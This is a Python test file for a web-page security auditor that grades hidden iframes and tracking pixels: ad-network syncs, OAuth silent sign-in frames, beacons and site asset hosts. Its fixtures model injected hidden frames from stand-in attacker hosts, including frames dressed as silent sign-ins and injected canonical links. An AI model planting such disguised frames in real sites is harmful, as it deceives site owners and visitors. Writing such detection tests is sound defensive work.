def test_amazons_sync_frame_on_a_prebid_page_is_a_sync(audit_listed: AuditListed) -> None:
    """Amazon's `/iu3` frame on a page running Prebid without apstag is its cookie sync,
    low as any bidder's `/usersync` frame, not a hidden ad request."""
    report = audit_listed(wp_page(head=_PREBID, footer=_AMAZON_SYNC), URL)
    (frame,) = [f for f in report.findings if f.kind == "hidden-iframe"]
    assert frame.severity is L and "user-sync" in frame.message, frame.message


@pytest.mark.parametrize("frame", [
    _AMAZON_SYNC.replace("https://", "http://"),  # plain http on an https page
    _AMAZON_SYNC.replace("dl=n-index_pm-db5", "r=https%3A%2F%2Fkdjfh7s.example%2Fland"),
    _AMAZON_SYNC.replace("/iu3?", "/x/getad?size=300x250&"),  # an ad asked for, hidden
], ids=["plain http", "sends to an unknown host", "not its sync address"])
def test_an_amazon_frame_not_its_plain_sync_stays_medium(
        frame: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(head=_PREBID, footer=frame), URL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


# OAuth/OIDC silent authentication frames, as the vendors' SDKs write them (tenants, client
# IDs and states made up): Auth0's `checkSession`, Okta's `getWithoutPrompt`, Sign in with
# Apple's (Gigya's single sign-on, a catalogued social vendor's, below)
def _hidden(src: str) -> str:
    return (f'<iframe src="{src}" width="0" height="0" style="display: none;" '
            'title="auth"></iframe>')


_BACK = "https%3A%2F%2Fwww.harbourgazette.example%2Fcallback"
SILENT_AUTH = [
    ("Auth0", _hidden("https://harbourgazette.eu.auth0.com/authorize?client_id=Xk29fQ&amp;"
                      f"response_type=code&amp;redirect_uri={_BACK}&amp;scope=openid&amp;"
                      "state=c2lsZW50&amp;prompt=none&amp;response_mode=web_message")),
    ("Okta", _hidden("https://harbourgazette.okta.com/oauth2/default/v1/authorize?client_id="
                     f"0oa1b2c3&amp;response_type=code&amp;redirect_uri={_BACK}&amp;prompt="
                     "none&amp;response_mode=okta_post_message&amp;state=ab12")),
    ("an IdP on a domain bearing the site's name", _hidden(
        "https://id.harbourgazette-accounts.example/authorize?client_id=web&amp;prompt=none&amp;"
        "response_mode=web_message")),
    ("Sign in with Apple", _hidden(
        "https://appleid.apple.com/auth/authorize?client_id=example.harbourgazette.web&amp;"
        f"redirect_uri={_BACK}&amp;response_type=code%20id_token&amp;state=s1&amp;"
        "response_mode=web_message")),
    ("Clerk", _hidden("https://clean-gull-12.clerk.accounts.dev/v1/client/handshake?"
                      f"redirect_url={_BACK}&amp;__clerk_hs_reason=dev-browser-missing")),
]


@pytest.mark.parametrize("frame", [c[1] for c in SILENT_AUTH], ids=[c[0] for c in SILENT_AUTH])
def test_a_silent_authentication_frame_is_a_login_frame(
        frame: str, audit_listed: AuditListed) -> None:
    """A hidden frame making an OAuth/OIDC silent authentication request (by its address:
    `/authorize` with `prompt=none` or a framed response mode, for a client answered on
    the page's own site) is a login frame: low, not a hidden ad request."""
    report = audit_listed(wp_page(footer=frame), URL)
    assert _frames(report.findings) == [L], [(f.kind, f.message) for f in report.findings]


def test_gigyas_sign_on_frame_is_a_catalogued_social_vendors_frame(
        audit_listed: AuditListed) -> None:
    """Gigya's single sign-on frame, hidden as its SDK writes it: the catalogue knows Gigya
    (SAP's social sign-in, sharing and comments), and a social vendor's hidden frame is its
    widget's helper, no finding, as Facebook's and the other social SDKs' are."""
    frame = _hidden("https://cdns.gigya.com/gs/sso.htm?APIKey=3_abc&amp;version=latest")
    report = audit_listed(wp_page(footer=frame), URL)
    assert _frames(report.findings) == [], [(f.kind, f.message) for f in report.findings]


_AUTH0 = SILENT_AUTH[0][1]


@pytest.mark.parametrize(("where", "frame", "severity"), [
    ("footer", _AUTH0.replace(_BACK, "https%3A%2F%2Fkdjfh7s.example%2Fland"), M),
    ("footer", _AUTH0.replace("prompt=none&amp;response_mode=web_message", "x=1"), M),
    ("footer", _AUTH0.replace("https://", "http://"), H),
    ("after", _AUTH0, H),
    ("footer", SILENT_AUTH[-1][1].replace(_BACK, "https%3A%2F%2Fkdjfh7s.example%2F"), M),
], ids=["its answer sent to another site", "not silent", "plain http", "after </html>",
        "a handshake answering to another site"])
def test_a_sign_in_address_with_a_mark_or_another_sites_answer_is_no_low(
        where: str, frame: str, severity: Severity, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(**{where: frame}), URL)
    assert _frames(report.findings) == [severity], [(f.kind, f.message)
                                                    for f in report.findings]


# an attacker's hidden frame dressed as a silent sign-in: the host is its own, and so is
# every word of the address, the return address to the page's own site too (the answer
# goes nowhere the frame needs: it has drawn its page the moment it loads)
_BAD = "https://adsrv-qk7.example"
_DRESSED = [
    ("no return address", _hidden(f"{_BAD}/authorize?prompt=none&amp;client_id=x")),
    ("the page's site as its return address", _hidden(
        f"{_BAD}/authorize?prompt=none&amp;client_id=x&amp;redirect_uri={_BACK}")),
    ("a web_message answer", _hidden(
        f"{_BAD}/oauth/authorize?client_id=x&amp;response_mode=web_message")),
    ("Clerk's handshake path", _hidden(f"{_BAD}/v1/client/handshake?redirect_url={_BACK}")),
    ("an IdP on a domain not the site's", _hidden(
        "https://id.gazette-accounts.example/authorize?client_id=web&amp;prompt=none&amp;"
        "response_mode=web_message")),
    ("a provider's tenant naming no return address", _hidden(
        "https://harbourgazette.eu.auth0.com/authorize?client_id=Xk29fQ&amp;prompt=none")),
    ("an IdP's name in another site's subdomain", _hidden(
        f"https://auth0.adsrv-qk7.example/authorize?prompt=none&amp;client_id=x&amp;"
        f"redirect_uri={_BACK}")),
]


@pytest.mark.parametrize("frame", [c[1] for c in _DRESSED], ids=[c[0] for c in _DRESSED])
def test_a_hidden_frame_dressed_as_a_silent_sign_in_stays_medium(
        frame: str, audit_listed: AuditListed) -> None:
    """The address is the frame's author's to write: a silent sign-in is one only on an
    identity provider's own host (answering to the page's site) or on the page's own
    site (its IdP's custom domain); on any other host it is a hidden frame as before."""
    report = audit_listed(wp_page(footer=frame), URL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


_GAZETTE = "https://www.harbourgazette.example"


@pytest.mark.parametrize(("frame", "canonical", "sheet", "expected"), [
    # the site's own consent frame first in its head, read with no --url: its canonical and
    # its theme's stylesheet name the frame's site, which is the page's own (was medium)
    (f"{_GAZETTE}/consent/frame.html", f"{_GAZETTE}/2026/11/ferry/",
     f"{_GAZETTE}/wp-content/themes/gazette/style.css", []),
    # the injection the cut-head rule guards against: a hidden frame, then a canonical of
    # its host, with the theme served by the page's real site, or with a script of the
    # frame's host beside them (the blob's payload, no template)
    ("https://adsrv-qk7.example/x", "https://adsrv-qk7.example/",
     f"{_GAZETTE}/wp-content/themes/gazette/style.css", [M]),
    ("https://adsrv-qk7.example/x", "https://adsrv-qk7.example/", "", [M]),
], ids=["own frame", "injected frame and canonical", "injected, no sheet"])
def test_a_sites_own_frame_that_cuts_its_head_is_its_own(
        audit_html: AuditHtml, frame: str, canonical: str, sheet: str,
        expected: list[Severity]) -> None:
    """A hidden frame first in `<head>` ends the head where the parser reads it; a
    canonical after it naming the frame's host is the injection's own unless the page's
    template (its stylesheet in a folder of that site) makes that site its home."""
    link = f'<link rel="stylesheet" href="{sheet}">' if sheet else (
        '<script src="https://adsrv-qk7.example/js/p.js"></script>')
    html = (f'<!DOCTYPE html><html lang="en"><head><iframe src="{frame}" width=0 height=0 '
            f'style="display:none"></iframe><link rel="canonical" href="{canonical}">'
            f'<meta charset="UTF-8"><title>Ferry vote</title>{link}</head><body><article>'
            "<h1>Ferry vote</h1><p>The harbour council voted on the winter timetable on "
            "Tuesday, after a long debate.</p></article></body></html>")
    report = audit_html(html, url=None)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


@pytest.mark.parametrize(("src", "owner"), [
    # a CloudFront customer's distribution: the customer's beacon, not Amazon Web Services'
    # (was "(Amazon Web Services)")
    ("https://d9kq27zmbw4r.cloudfront.net/x.gif?type=karma&amp;sid=e1ad", ""),
    # a distribution the catalogue names (Alexa's certify pixel) and a tracker's own host
    ("https://d5nxst8fruw4z.cloudfront.net/atrk.gif?account=Qx7b1", " (Amazon)"),
    ("https://pixel.quantserve.com/pixel/p-8Zq4x.gif", " (Quantcast)"),
], ids=["a platform's customer", "a named distribution", "a tracker's host"])
def test_a_tracking_pixel_names_its_runner_not_the_platform_it_rents(
        audit_html: AuditHtml, src: str, owner: str) -> None:
    html = (f"<html><body><p>Ferry times.</p><img src='{src}' width='1' height='1' alt=''>"
            "</body></html>")
    (pixel,) = [f for f in audit_html(html).findings if f.kind == "tracking-pixel"]
    assert pixel.message.endswith(f"from {src.split('/')[2]}{owner}"), pixel.message


@pytest.mark.parametrize(("src", "pixels"), [
    # the site's own counter on its sister domain, its name under another suffix (People's
    # Daily's counter.people.cn on culture.people.com.cn): the site's beacon, no third party's
    ("http://counter.harbourgazette.cn:8000/c.gif?id=31153719", 0),
    ("https://stats.harbourgazette-media.example/p.gif?id=4", 0),
    # another site's counter, the site's name as a vendor's customer subdomain, or its name
    # on a suffix a dollar buys: third parties' beacons as before
    ("http://counter.otherdaily.cn:8000/c.gif?id=31153719", 1),
    ("https://harbourgazette.stats-vendor.example/p.gif?id=4", 1),
    ("https://harbourgazette-stats.top/p.gif?id=4", 1),
], ids=["sister domain", "sister domain with an asset word", "another site",
        "a vendor's customer subdomain", "a cheap suffix"])
def test_a_pixel_on_the_sites_sister_domain_is_the_sites_own(
        audit_html: AuditHtml, src: str, pixels: int) -> None:
    html = (f"<html><body><p>Ferry times.</p><img src='{src}' width='0' height='0' "
            "style='display:none;'></body></html>")
    found = [f for f in audit_html(html, url="http://culture.harbourgazette.com.cn/n1/a.html"
                                   ).findings if f.kind == "tracking-pixel"]
    assert len(found) == pixels, found


_IMAGE_CDN = "https://i.cdn.gazettemedia.test"
_LOGO = f"<img src='{_IMAGE_CDN}/gazette/img/logo.png' alt='Harbour Gazette'>"
_SHEET = f"<link rel='stylesheet' href='{_IMAGE_CDN}/gazette/css/main.css'>"


@pytest.mark.parametrize(("logo", "spacer", "pixels"), [
    # a static 1.gif of the host the page shows its logo from, hidden beside a skip link:
    # the site's spacer, no beacon (was a low tracking-pixel)
    (_LOGO, f"{_IMAGE_CDN}/gazette/images/1.gif", 0),
    # a clear.gif of the host the head links the page's stylesheet from, a skip link's
    # screen-reader text its alt (Yahoo! JAPAN's yj-skip): the site's static host's spacer
    (_SHEET, f"{_IMAGE_CDN}/gazette/images/clear.gif", 0),
    # the same where the head's sheet is of another host: a beacon as before
    (_SHEET.replace(_IMAGE_CDN, "https://css.elsewhere.test"),
     f"{_IMAGE_CDN}/gazette/images/clear.gif", 1),
    # the same file where the page shows nothing of that host, or with a query (a count),
    # or a tracker's own host: beacons as before
    ("", f"{_IMAGE_CDN}/gazette/images/1.gif", 1),
    (_LOGO, f"{_IMAGE_CDN}/gazette/images/1.gif?pv=1", 1),
    ("<img src='https://pixel.quantserve.com/logo.png' alt='q'>",
     "https://pixel.quantserve.com/pixel/p-8Zq4x.gif", 1),
], ids=["the site's image host's spacer", "the site's stylesheet host's spacer",
        "another host's stylesheet", "a host the page shows nothing of", "a query",
        "a tracker's host"])
def test_a_hidden_spacer_of_the_sites_image_host_is_no_beacon(
        audit_html: AuditHtml, logo: str, spacer: str, pixels: int) -> None:
    head, logo = (logo, "") if logo.startswith("<link") else ("", logo)
    html = (f"<html><head><meta charset='utf-8'>{head}</head><body><header>{logo}"
            f"<a href='#main'><img src='{spacer}' width='10' "
            "height='1' style='display:none' alt='Skip to main content'></a></header>"
            "<main id='main'><p>Ferry times.</p></main></body></html>")
    found = [f for f in audit_html(html).findings if f.kind == "tracking-pixel"]
    assert len(found) == pixels, found


# a theme's "load more" list as WordPress list plugins write it: the site's posts, the
# button, then core's spinner hidden by its inline style until the button's script shows it
# (no size declared)
_LOAD_MORE = ('<ul><li><a href="https://www.harbourgazette.example/2020/07/ferry-fares/">Ferry '
              'fares rise</a></li><li><a href="https://www.harbourgazette.example/2020/07/'
              'harbour-wall/">Harbour wall repaired</a></li></ul><form action="" method="POST" '
              'id="list-8190-form"><div><a href="" id="list-8190-button" class="list-button">'
              'Load more stories »</a><img src="{src}" alt="Loading more results... please '
              'wait." id="list-8190-spinner" style="display: none;" /></div></form>')
_SPINNER = "https://www.harbourgazette.example/wp-includes/images/spinner.gif"


@pytest.mark.parametrize(("src", "url", "pixels"), [
    # saved without its address: the site its links go to is the page's own, its spinner
    # the site's
    (_SPINNER, None, 0),
    (_SPINNER, "https://www.harbourgazette.example/news/ferry", 0),
    # another site's hidden image, no size (a beacon's form as much as a spinner's), and a
    # beacon asking with a query: third-party pixels, address or not
    ("https://pixel.brisk-wave.example/p.gif", None, 1),
    ("https://stats.brisk-wave.example/t.gif?sid=4411&amp;p=ferry", None, 1),
    ("https://stats.brisk-wave.example/t.gif?sid=4411&amp;p=ferry",
     "https://www.harbourgazette.example/news/ferry", 1),
], ids=["own spinner, no address", "own spinner", "another site's static image, no address",
        "beacon with a query, no address", "beacon with a query"])
def test_a_sites_own_hidden_spinner_is_no_pixel_without_its_address(
        audit_listed: AuditListed, src: str, url: str | None, pixels: int) -> None:
    """A page read without its address is the site most of its links go to, as its link
    blocks are read: its theme's hidden spinner is a first-party image, no beacon."""
    html = ("<!doctype html><html><head><title>Ferry</title></head><body><main><p>Ferry "
            f"times.</p></main>{_LOAD_MORE.format(src=src)}</body></html>")
    found = [f for f in audit_listed(html, url).findings  # type: ignore[arg-type]
             if f.kind == "tracking-pixel"]
    assert len(found) == pixels, found


# Meta Pixel's noscript image, as its base code writes it, on a small site's page saved
# without its address: its own links relative, the absolute ones its Facebook and
# Instagram pages. The presumed site (most absolute links: facebook.com) is no reason to
# take a 1×1 image for the site's own; only a hidden image a visitor would see sized is
_META_PIXEL = ('<noscript><img height="1" width="1" style="display:none"\nsrc="https://www.'
               'facebook.com/tr?id=123456789012345&ev=PageView&noscript=1"\n/></noscript>')
_SOCIAL_PAGE = ('<nav><a href="/">Home</a> <a href="/menu/">Menu</a> <a href="/contact/">Contact'
                '</a></nav><main><p>Pancakes since 1972; specials on <a href="https://www.'
                'facebook.com/joesdiner">Facebook</a>.</p></main><footer><a href="https://www.'
                'facebook.com/joesdiner">Facebook</a> <a href="https://www.instagram.com/'
                'joesdiner/">Instagram</a></footer>')


@pytest.mark.parametrize("pixel", [
    _META_PIXEL,
    # a tag manager's custom tag writing it hidden, no size: asking with a query, a beacon
    _META_PIXEL.replace('height="1" width="1" ', ""),
], ids=["1x1", "hidden, no size"])
def test_a_one_pixel_beacon_of_the_site_most_links_go_to_stays_without_its_address(
        audit_listed: AuditListed, pixel: str) -> None:
    html = (f"<!doctype html><html><head><title>Joe's Diner</title>{pixel}</head><body>"
            f"{_SOCIAL_PAGE}</body></html>")
    found = [f for f in audit_listed(html, None).findings  # type: ignore[arg-type]
             if f.kind == "tracking-pixel"]
    assert [f.evidence for f in found] == ["www.facebook.com"], found


@pytest.mark.parametrize(("injected", "expected"), [
    # the injector prints one stylesheet of its frame's host in a folder beside its frame
    # and canonical; the page's template (theme stylesheet, icon) is the real site's
    ('<link rel="stylesheet" href="https://adsrv-qk7.example/css/a.css">', [M]),
    # the site's own frame: its template is all the frame's site's
    ("", []),
], ids=["injected frame, canonical and one sheet of its host", "own frame"])
def test_a_frames_sheet_outnumbered_by_the_templates_does_not_vouch(
        audit_html: AuditHtml, injected: str, expected: list[Severity]) -> None:
    """The frame's site is the page's home only if it serves as much of the page's template
    as any other site: one stylesheet an injector prints of its own host beside the victim's
    theme stylesheet and icon is the blob's, not the template's."""
    own = not injected
    frame = f"{_GAZETTE}/consent/frame.html" if own else "https://adsrv-qk7.example/x"
    canonical = f"{_GAZETTE}/2026/11/ferry/" if own else "https://adsrv-qk7.example/"
    html = (f'<!DOCTYPE html><html lang="en"><head><iframe src="{frame}" width=0 height=0 '
            f'style="display:none"></iframe><link rel="canonical" href="{canonical}">'
            f'{injected}<meta charset="UTF-8"><title>Ferry vote</title><link rel="stylesheet"'
            f' href="{_GAZETTE}/wp-content/themes/gazette/style.css"><link rel="icon" href="'
            f'{_GAZETTE}/wp-content/uploads/2020/01/icon.png"></head><body><article>'
            "<h1>Ferry vote</h1><p>The harbour council voted on the winter timetable on "
            "Tuesday, after a long debate.</p></article></body></html>")
    report = audit_html(html, url=None)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


_BUCKET = "https://harbourgazette-static-prod.s3.amazonaws.com"
_PRELOAD = (f'<iframe src="{_BUCKET}/identity/misc/preload.html" height="1" width="1">'
            '</iframe>')


def test_a_frame_on_the_sites_own_static_host_is_no_finding(
        audit_listed: AuditListed) -> None:
    """A 1×1 frame on a host bearing the site's name that serves the page's own stylesheet
    (a news site's static bucket, `<site>-static-prod.s3.amazonaws.com`, preloading its
    sign-in helper) is the site's own, as a frame of its own domain is."""
    sheet = f'<link rel="stylesheet" href="{_BUCKET}/css/main.css">'
    report = audit_listed(wp_page(head=sheet, footer=_PRELOAD), URL)
    assert _frames(report.findings) == []


@pytest.mark.parametrize("head", [
    # the host serves a script alone: a kit loads a script and a frame from its own host
    f'<script src="{_BUCKET}/js/main.js"></script>',
    # the stylesheet of another bucket, not named for the site
    '<link rel="stylesheet" href="https://brisk-wave.s3.amazonaws.com/css/main.css">'])
def test_a_hosts_script_or_another_hosts_stylesheet_makes_no_site_asset_host(
        head: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(head=head, footer=_PRELOAD), URL)
    assert _frames(report.findings) == [M]


def test_a_frame_on_a_static_host_without_the_sites_name_stays_medium(
        audit_listed: AuditListed) -> None:
    """A bucket that serves the page's stylesheet but bears another name is a shared
    host, not the site's: its hidden frame is still a check."""
    other = "https://brisk-wave.s3.amazonaws.com"
    report = audit_listed(wp_page(
        head=f'<link rel="stylesheet" href="{other}/css/main.css">',
        footer=f'<iframe src="{other}/f.html" height="1" width="1"></iframe>'), URL)
    assert _frames(report.findings) == [M]


@pytest.mark.parametrize("parts", [
    # the kit prints a sheet of its bucket beside its frame, in the footer
    {"footer": f'<link rel="stylesheet" href="{_BUCKET}/css/main.css">{_PRELOAD}'},
    # or in a Custom HTML widget
    {"widget": f'<link rel="stylesheet" href="{_BUCKET}/css/main.css">{_PRELOAD}'},
    # or at the head's top, above the charset, where injectors write
    {"head_top": f'<link rel="stylesheet" href="{_BUCKET}/css/main.css">',
     "footer": _PRELOAD},
    # or at the head's top with a script of the bucket past it, beside its frame
    {"head_top": f'<link rel="stylesheet" href="{_BUCKET}/css/main.css">',
     "footer": f'<script src="{_BUCKET}/js/k.js"></script>{_PRELOAD}'},
], ids=["footer", "widget", "head top", "head top and a script"])
def test_a_sheet_a_kit_prints_of_a_bucket_named_for_the_site_vouches_for_nothing(
        parts: dict[str, str], audit_listed: AuditListed) -> None:
    """A bucket named after the site whose stylesheet the page links only where an
    injector writes (beside its frame, or above the head's charset) is no static host of
    the site's: the frame stays medium (it was no finding: any stylesheet of the host
    vouched), with the site's address or only its canonical link to go by."""
    for url in (URL, None):
        report = audit_listed(wp_page(**parts), url)  # type: ignore[arg-type]
        assert _frames(report.findings) == [M], url


def test_a_late_charset_templates_static_host_is_still_the_sites(
        audit_listed: AuditListed) -> None:
    """A template that declares its charset late (an Adobe CQ head: its stylesheet first)
    links its bucket's sheet at the head's top, and shows its logo from the bucket in the
    body: the host serves the page past its top too, so it is the site's static host."""
    sheet = f'<link rel="stylesheet" href="{_BUCKET}/etc/designs/gazette/css/main.css">'
    logo = f'<img src="{_BUCKET}/etc/designs/gazette/images/logo.png" alt="Harbour Gazette">'
    report = audit_listed(wp_page(head_top=sheet, body_top=logo, footer=_PRELOAD), URL)
    assert _frames(report.findings) == [], report.findings


def test_a_bucket_named_for_the_site_and_another_business_is_no_static_host(
        audit_listed: AuditListed) -> None:
    """A bucket bearing the site's name beside another business's word
    (`harbourgazette-deals`) whose sheet the head links where a `wp_head` hook prints is
    anyone's bucket: its hidden frame stays medium (it was no finding: any host bearing
    the name vouched). Deployment words (`-prod`) keep the site's own bucket its own."""
    deals = "https://harbourgazette-deals.s3.amazonaws.com"
    report = audit_listed(wp_page(
        head=f'<link rel="stylesheet" href="{deals}/c/x.css">',
        footer=f'<iframe src="{deals}/p/land.html" height="1" width="1"></iframe>'), URL)
    assert _frames(report.findings) == [M]


# a portal whose design is all on a static domain of another name (Yahoo! JAPAN's yimg.jp
# for yahoo.co.jp), its scripts too
_PORTAL = "https://news.harbourportal.example/story/77"
_STATIC = "kaiimg.example"


def _portal(sheets: str, body: str) -> str:
    return (f'<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>記事 - '
            f'ニュース</title><link rel="canonical" href="{_PORTAL}">{sheets}<script src="'
            f'https://i.{_STATIC}/news/js/jquery.min.js"></script></head><body><article><h1>'
            "記事</h1><p>港の冬ダイヤについて市議会が火曜日に議論しました。</p></article>"
            f"{body}</body></html>")


_PORTAL_SHEETS = "".join(
    f'<link rel="stylesheet" href="https://{h}.{_STATIC}/news/css/{n}.css">'
    for h, n in (("i", "main"), ("s", "search"), ("ai", "masthead")))
_STATIC_FRAME = (f'<div id="rec-p4"><iframe src="https://s.{_STATIC}/rec/loader/proxy.html?'
                 'placeholder=rec-p4" width="100%" height="0" frameborder="0"></iframe></div>')


@pytest.mark.parametrize(("sheets", "expected"), [
    # every sheet of the head is the static domain's: the frame's host serves the design
    (_PORTAL_SHEETS, []),
    # one sheet of the frame's host beside two of the site's own: a hook's or a kit's
    (f'<link rel="stylesheet" href="https://news.harbourportal.example/css/a.css">'
     f'<link rel="stylesheet" href="https://news.harbourportal.example/css/b.css">'
     f'<link rel="stylesheet" href="https://s.{_STATIC}/rec/css/r.css">', [M]),
    # the static domain serves the design, but the frame's host serves none of it
    (_PORTAL_SHEETS.replace(f"https://s.{_STATIC}", f"https://i.{_STATIC}"), [M]),
    # a page styled inline, a kit's two sheets of its frame's host: they serve no script
    # and no picture of the page
    ("", [M]),
], ids=["the design's host", "outnumbered by the site's sheets", "another host of it",
        "sheets alone"])
def test_a_frame_on_the_host_serving_the_pages_design_is_the_sites(
        audit_html: AuditHtml, sheets: str, expected: list[Severity]) -> None:
    """A hidden frame on the host that serves the page's stylesheets, of a site serving most
    of them (a portal's static domain of another name), is the site's own, as its own
    domain's is (was medium: a host the catalogue does not know)."""
    page = _portal(sheets, _STATIC_FRAME) if sheets else _kit_styled_inline()
    report = audit_html(page, url=_PORTAL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


def test_a_kit_outnumbering_a_portals_design_host_is_no_design_host(
        audit_html: AuditHtml) -> None:
    """On a page whose own site links no sheet (a portal's static domain, a scraped copy's
    re-hosted design), a kit printing more sheets and scripts of its host than the design's
    host serves outnumbered it and passed as the design's host: its hidden frame read no
    finding. The design's host serves every sheet the head links; beside another site's
    sheets neither is sure to be the page's: medium."""
    kit = "https://cdn.trafficbridge.test/k"
    sheets = _PORTAL_SHEETS + "".join(
        f'<link rel="stylesheet" href="{kit}/{n}.css">' for n in "wxyz")
    body = "".join(f'<script src="{kit}/{n}.js"></script>' for n in "xy") + (
        f'<iframe src="{kit}/land.html" width="1" height="1"></iframe>')
    report = audit_html(_portal(sheets, body), url=_PORTAL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


def _kit_styled_inline() -> str:
    kit = f"https://s.{_STATIC}/kit"
    return (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Story</title><style>'
            f'body{{font:16px serif}}</style><link rel="stylesheet" href="{kit}/a.css"><link '
            f'rel="stylesheet" href="{kit}/b.css"></head><body><article><h1>Story</h1><p>The '
            f"harbour's winter timetable was debated on Tuesday.</p></article>{_STATIC_FRAME}"
            "</body></html>")


# YADS's documented tag (yads_ad_ds, then yads.js from yads.c.yimg.jp) and the unit frame it
# writes on another host of yimg.jp, display:none while unfilled
_YADS_TAG = ("<script>yads_ad_ds = '20806_10381';</script><script src=\"https://yads.c.yimg.jp/"
             'js/yads.js"></script>')
_YADS_FRAME = ('<div><iframe src="https://i.yimg.jp/images/listing/tool/yads/yads-iframe.html?'
               's=20806_10381-131359&amp;t=f&amp;fr_id=yads_7398503-2" style="border: medium '
               'none; display: none;" width="632" height="250" frameborder="0"></iframe></div>')


@pytest.mark.parametrize(("tag", "frame", "expected"), [
    # the network's tag runs from its own domain, the frame is on that domain
    (_YADS_TAG, _YADS_FRAME, [L]),
    # the same frame with no YADS tag on the page
    ("", _YADS_FRAME, [M]),
    # the tag runs, the frame is on a host of another site
    (_YADS_TAG, _YADS_FRAME.replace("i.yimg.jp", "cdn.kaiads.example"), [M]),
], ids=["the network's own domain", "no tag of it", "another site"])
def test_a_frame_on_the_domain_of_an_ad_network_the_page_runs_is_its_helper(
        audit_html: AuditHtml, tag: str, frame: str, expected: list[Severity]) -> None:
    """A hidden frame on a host the catalogue does not know, of the domain a catalogued ad
    network the page's tags run loads from (YADS's unit frame on i.yimg.jp, its tag from
    yads.c.yimg.jp), is that network's helper: low, as the stack's other helpers."""
    html = _portal('<link rel="stylesheet" href="https://news.harbourportal.example/c.css">',
                   f'<div class="ad">{tag}{frame}</div>')
    report = audit_html(html, url=_PORTAL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


# SimpleReach's documented tag: __reach_config with its pid, reach.js from its CloudFront
# distribution; its helper frame on that host carries the pid
_PID = "5f3a9c0e71b2d4e6a8c0b1d2"
_CDN = "https://d3kx9q0w1abcd.cloudfront.net"


def _reach(frame_host: str, pid: str) -> str:
    return (f'<script async src="{_CDN}/js/reach.js"></script><script>__reach_config = '
            f"{{pid: '{_PID}', title: 'Ferry vote', url: '{URL}'}};</script>"
            f'<iframe width="1" height="1" name="spr" src="{frame_host}/iframe.html?pid={pid}'
            '&amp;title=Ferry%20vote" style="display: none;"></iframe>')


@pytest.mark.parametrize(("footer", "expected"), [
    # on the host the page loads the vendor's script from, with the pid its tag gives
    (_reach(_CDN, _PID), [L]),
    # another host, the same pid: no script of the page's comes from it
    (_reach("https://d9zz8y7x6wvut.cloudfront.net", _PID), [M]),
    # the script's host, but no ID of the page's tag
    (_reach(_CDN, "0123456789abcdef01234567"), [M]),
], ids=["the vendor's script host and ID", "another host", "no ID of the tag"])
def test_a_vendors_helper_frame_on_its_script_host_with_its_id_is_low(
        audit_listed: AuditListed, footer: str, expected: list[Severity]) -> None:
    """A hidden frame on the CDN host the page loads a catalogued vendor's script from,
    carrying the ID the vendor's tag on the page gives (SimpleReach's `spr` frame with its
    pid), is that vendor's helper: low (was medium, a host the catalogue does not know)."""
    report = audit_listed(wp_page(footer=footer), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


@pytest.mark.parametrize(("path", "expected"), [
    # Lotame's Behavior Collection Point call answered as an iframe: its sync frame
    ("/5/c=4321/rand=1486718795361/pv=y/rt=ifr", [L]),
    # the same call answered otherwise is no frame its tag adds
    ("/5/c=4321/rand=1486718795361/pv=y", [M]),
], ids=["rt=ifr", "no iframe answer"])
def test_lotames_iframe_collection_call_is_its_sync_frame(
        audit_listed: AuditListed, path: str, expected: list[Severity]) -> None:
    frame = (f'<iframe style="position: absolute; visibility: hidden; height: 1px; width: '
             f'1px;" src="https://bcp.crwdcntrl.net{path}"></iframe>')
    report = audit_listed(wp_page(footer=frame), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


# the page's own Google Analytics tag (gtag.js from Tag Manager's host, its measurement ID)
_GA = "G-7QK2M9PX4D"
_GTAG = (f'<script async src="https://www.googletagmanager.com/gtag/js?id={_GA}"></script>'
         "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push("
         f"arguments);}}gtag('js',new Date());gtag('config','{_GA}');</script>")
_KIT = "https://cdn.trafficbridge.example"


def test_a_kits_frame_carrying_the_pages_ga_id_is_no_vendors_helper(
        audit_listed: AuditListed) -> None:
    """A kit's hidden frame beside its own script, on its script's host, carrying the
    page's own GA measurement ID is no Google Analytics helper: the page loads GA's tag
    from a host the catalogue knows as GA's, not from the kit's (was low since e82dbaf)."""
    footer = (f'<script src="{_KIT}/t.js"></script><iframe src="{_KIT}/f.html?id={_GA}" '
              'width="1" height="1" style="display:none"></iframe>')
    report = audit_listed(wp_page(head=_GTAG, footer=footer), URL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


@pytest.mark.parametrize("cdn", ["https://cdn.jsdelivr.net/npm", "https://unpkg.com"],
                         ids=["jsDelivr", "unpkg"])
def test_a_host_of_anyones_files_styling_the_page_is_no_design_host(
        audit_html: AuditHtml, cdn: str) -> None:
    """A page styled and scripted by libraries from a host of anyone's files (jsDelivr,
    unpkg) does not make a kit's hidden frame on that host the site's (was no finding
    since 70b291a; medium before)."""
    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Ferry times</title>"
            "<link rel='stylesheet' href='https://fonts.googleapis.com/css?family=Lora'>"
            f"<link rel='stylesheet' href='{cdn}/bootstrap@5.3.0/dist/css/bootstrap.min.css'>"
            f"<link rel='stylesheet' href='{cdn}/swiper@11/swiper-bundle.min.css'>"
            f"<script src='{cdn}/jquery@3.6.0/dist/jquery.min.js'></script></head><body>"
            "<article><h1>Ferry</h1><p>The council debated the winter timetable on Tuesday "
            f"evening.</p></article><iframe src='{cdn}/pushbridge@1/p.html' width='0' "
            "height='0' style='display:none'></iframe></body></html>")
    report = audit_html(page, url="https://www.harbourgazette.example/ferry")
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


# AdMaven's popunder tag as sites paste it, from its CloudFront distribution
_ADMAVEN = ('<script data-cfasync="false" src="//dcbbwymp1bhlf.cloudfront.net/?wbbcd='
            '1048213"></script>')


